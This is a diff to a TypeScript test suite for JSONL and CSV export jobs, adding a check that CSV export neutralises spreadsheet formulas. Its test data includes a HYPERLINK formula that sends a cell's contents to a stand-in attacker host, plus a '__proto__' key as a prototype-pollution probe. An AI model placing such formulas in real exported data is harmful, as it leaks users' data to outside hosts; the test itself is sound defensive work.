@@ -218,8 +218,9 @@ describe("results of bulk jobs", () => {
 describe("exports", () => {
   it("JSONL and CSV: every match at the start once, in id order, as read; later resources excluded; rows and sha256 agree with the stored file", async () => {
     const tenant = newTenant();
+    const formula = '=HYPERLINK("http://evil.example/?"&B2,"Click")';
     const ids = await seedResources(db, tenant, 45, (i) => ({
-      name: i === 6 ? 'quote " and, comma\nnewline' : `e${i}`,
+      name: i === 6 ? 'quote " and, comma\nnewline' : i === 9 ? formula : `e${i}`,
       status: i % 3 === 0 ? "paused" : "active",
       metadata: i === 6 ? [{ k: "__proto__", v: "x" }] : [],
     }));
@@ -240,6 +241,8 @@ describe("exports", () => {
     expect(rows.map((r) => r["id"])).toEqual([...ids].sort());
     expect(Object.keys(rows[0]!)).toEqual(["id", "object", "name", "status", "metadata", "created"]);
     expect(rows.find((r) => r["name"] === 'quote " and, comma\nnewline')?.["metadata"]).toEqual(JSON.parse('{"__proto__":"x"}'));
+    // JSONL is exact; CSV neutralises a formula with a leading ' (OWASP's CSV injection guidance).
+    expect(rows.find((r) => r["id"] === ids[9])?.["name"]).toBe(formula);
 
     const table = await fileBytes(db, tenant, jobs[1]!.result!.file!);
     const { parse } = await import("csv-parse/sync");
@@ -248,6 +251,7 @@ describe("exports", () => {
     expect(records.map((r) => r["id"])).toEqual([...paused].sort());
     expect(records.every((r) => r["status"] === "paused")).toBe(true);
     expect(records.find((r) => r["name"]!.startsWith("quote"))?.["metadata"]).toBe('{"__proto__":"x"}');
+    expect(records.find((r) => r["id"] === ids[9])?.["name"]).toBe(`'${formula}`);
     expect(table.sha256).toBe(sha256(table.bytes));
   });
 
